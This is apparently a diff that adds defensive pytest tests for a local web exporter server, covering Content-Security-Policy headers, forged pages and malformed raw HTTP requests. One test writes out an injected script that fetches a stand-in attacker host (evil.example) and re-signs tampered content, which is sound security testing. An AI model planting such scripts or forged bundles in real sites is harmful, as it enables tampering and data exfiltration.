@@ -3,12 +3,14 @@
 import http.client
 import json
 import shutil
+import socket
 import threading
 
 import pytest
 
 from exporters import BundleError, ExportError, open_bundle
 from exporters.web import build_page, make_server, server_url
+from tests.cli.hostile.forging import signed
 from tests.exporters.web.sites import pack_stand_ins
 
 
@@ -101,6 +103,65 @@ def test_a_file_added_or_changed_after_export_is_not_served(site, tmp_path):
 def test_a_request_with_another_host_name_is_refused(server):
     assert _get(server, "/web/", host="evil.example")[0].status == 403
     assert _get(server, "/web/", host="localhost")[0].status == 200
+
+
+@pytest.mark.parametrize("path", ["/web/", "/web/page.js", "/float32.tflite", "/nothing", "/"])
+def test_every_response_has_the_policy_of_the_page(server, path):
+    policy = _get(server, path)[0].headers["Content-Security-Policy"]
+    assert policy.startswith("default-src 'none'; connect-src 'self'; img-src 'self' data:;")
+    assert "script-src 'self' 'wasm-unsafe-eval' 'sha256-" in policy
+    assert "'unsafe-inline'" not in policy
+    assert policy.endswith("base-uri 'none'; form-action 'none'; frame-ancestors 'none'")
+    assert "\n" not in policy
+
+
+def test_a_forged_page_gets_the_policy_too(site, tmp_path):
+    copy = shutil.copytree(site, tmp_path / "copy")
+    signed("web/index.html", lambda _: b"<script>fetch('https://evil.example')</script>")(copy)
+    with _running(copy) as server:
+        response, body = _get(server, "/web/")
+        assert body.startswith(b"<script>")
+        assert response.headers["Content-Security-Policy"].startswith("default-src 'none'; connect")
+        server.shutdown()
+
+
+@pytest.mark.parametrize(
+    ("request_", "status"),
+    [
+        (b"\r\n\r\n", b""),
+        (b"GET\r\n\r\n", b""),  # HTTP/0.9 has no status line
+        (b"GET http://[ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", b"HTTP/1.1 400 "),
+        (b"GET / HTTP/9.9\r\n\r\n", b"<!DOCTYPE HTML>"),
+        (b"GET / HTTP/x\r\n\r\n", b"<!DOCTYPE HTML>"),
+        (b"\xff\xfe\x00 \x1b[2J \xff\r\n\r\n", b"<!DOCTYPE HTML>"),
+        (b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\n\r\n", b"HTTP/1.1 414 "),
+        (b"POST / HTTP/1.1\r\n\r\n", b"HTTP/1.1 501 "),
+        (b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 200 + b"\r\n", b"HTTP/1.1 431 "),
+        (b"GET /web/page.js HTTP/1.1\r\nHost", b""),
+    ],
+)
+def test_broken_requests_are_answered_and_print_nothing(server, capfd, request_, status):
+    with socket.create_connection(("127.0.0.1", server.server_port), timeout=10) as connection:
+        connection.sendall(request_)
+        connection.shutdown(socket.SHUT_WR)
+        answer = b""
+        while part := connection.recv(2**16):
+            answer += part
+    assert answer.startswith(status)
+    if answer.startswith(b"HTTP/1.1"):
+        assert b"Content-Security-Policy: default-src 'none'" in answer
+    assert _get(server, "/web/")[0].status == 200
+    assert capfd.readouterr().err == ""
+
+
+def test_a_connection_that_breaks_prints_nothing(server, capfd):
+    for _ in range(5):
+        connection = socket.create_connection(("127.0.0.1", server.server_port), timeout=10)
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
+        connection.sendall(b"GET /float32.tflite HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET ")
+        connection.close()
+    assert _get(server, "/web/")[0].status == 200
+    assert capfd.readouterr().err == ""
 
 
 def test_the_server_listens_on_this_machine_only(server):
